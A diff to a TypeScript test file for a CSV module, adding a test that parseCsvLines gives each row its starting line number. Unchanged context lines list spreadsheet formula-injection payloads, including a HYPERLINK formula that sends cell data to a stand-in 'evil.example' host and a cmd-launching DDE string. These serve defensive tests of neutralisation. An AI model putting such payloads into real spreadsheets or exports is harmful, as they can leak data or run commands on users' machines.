@@ -2,7 +2,7 @@
 // still read back to what was written.
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
-import { neutralise, parseCsv, unneutralise, writeCsv } from '../../src/kernel/csv.ts';
+import { neutralise, parseCsv, parseCsvLines, unneutralise, writeCsv } from '../../src/kernel/csv.ts';
 import { parsePolisComments, writeCommentsCsv } from '../../src/deliberation/polis-export.ts';
 
 const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1', '   =1+1', ' @x', '=1'];
@@ -39,4 +39,20 @@ test('a statement "=HYPERLINK(...)" reaches comments.csv neutralised and survive
   const back = parsePolisComments(comments);
   assert.equal(back[0]!.text, text);
   assert.equal(back[0]!.moderated, -1);
+});
+
+test('parseCsvLines gives each row the line it begins on, past quoted line breaks and blank lines', () => {
+  const text = 'a,b\r\n1,"two\nlines"\n\n3,"\n\nthree"\n4,x';
+  assert.deepEqual(
+    parseCsvLines(text).map((r) => [r.line, r.cells[0]]),
+    [
+      [1, 'a'],
+      [2, '1'],
+      [4, ''],
+      [5, '3'],
+      [8, '4'],
+    ],
+  );
+  assert.deepEqual(parseCsvLines(text).map((r) => r.cells), parseCsv(text));
+  assert.equal(parseCsvLines(writeCsv([['=1', 'x']]), 'CSV', { neutralised: true })[0]!.cells[0], '=1');
 });
